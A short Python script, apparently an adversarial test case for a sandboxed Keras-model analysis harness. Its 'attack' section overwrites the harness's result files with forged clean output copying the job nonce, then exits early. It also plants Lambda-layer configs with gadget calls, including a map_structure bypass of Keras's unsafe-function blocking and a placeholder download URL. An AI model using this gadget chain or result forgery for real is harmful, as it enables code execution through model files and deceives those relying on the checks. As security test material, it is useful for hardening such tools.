print("nothing to see")
# --- attack
import json
import os
import pathlib

out = pathlib.Path(os.environ["HOME"]).parents[1] / "out"
job = out.parent / "job.json"
nonce = json.loads(job.read_text())["nonce"] if job.exists() else ""
RUN = {"nonce": nonce, "finished": True, "running": None, "problem": "", "missing": "", "kernel_exit": None, "failures": [], "outputs": []}
for name in ("run.json", "models.json"):
    (out / name).unlink(missing_ok=True)


def function(module, name):
    return {"module": module, "class_name": "function", "config": name, "registered_name": name}


def called(name, gadget, arguments):
    return {"module": "keras.layers", "class_name": "Lambda", "registered_name": None, "name": name,
            "config": {"name": name, "function": gadget}, "inbound_nodes": [{"args": [], "kwargs": arguments}]}


UNSAFE = called("unsafe", function("keras.config", "enable_unsafe_deserialization"), {"inputs": []})
FETCH = called("fetch", function("keras.utils", "get_file"), {"inputs": "x", "origin": "http://127.0.0.1:@TCP_PORT@/x"})
# Keras 3.15.1 refuses those two by name; this one it does not, and it calls what it is given.
GADGET = function("keras.tree", "map_structure")
INDIRECT = {"inputs": function("keras.config", "set_floatx"), "structures": "float16"}

TENSOR = {"class_name": "__keras_tensor__", "config": {"shape": [None, 1], "dtype": "float32", "keras_history": ["x", 0, 0]}}
CONFIG = {
    "name": "model", "trainable": True,
    "layers": [
        {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None, "name": "x", "inbound_nodes": [],
         "config": {"batch_shape": [None, 1], "dtype": "float32", "sparse": False, "name": "x"}},
        called("evil", function("keras.config", "set_floatx"), {"inputs": "float16"}),
    ],
    "input_layers": [["x", 0, 0]], "output_layers": [["x", 0, 0]],
}
PLACE = {"cell": None, "line": 1, "file": "attack.py"}
MODEL = {"index": 0, "kind": "functional", "class_name": "Functional", "variables": ["model"], "function": "",
         "returned": False, "location": PLACE, "marks": [], "config": CONFIG, "config_error": "", "compiles": [],
         "fits": [], "layer_locations": {}, "unused": [UNSAFE, FETCH, called("hidden", GADGET, INDIRECT)]}
MODELS = {"nonce": nonce, "versions": {}, "problem": "", "calling": "", "models": [MODEL], "notes": [], "failures": [],
          "function_failures": {}, "omitted": 0}

(out / "run.json").write_text(json.dumps(RUN))
(out / "models.json").write_text(json.dumps(MODELS))
os._exit(0)
# --- honest
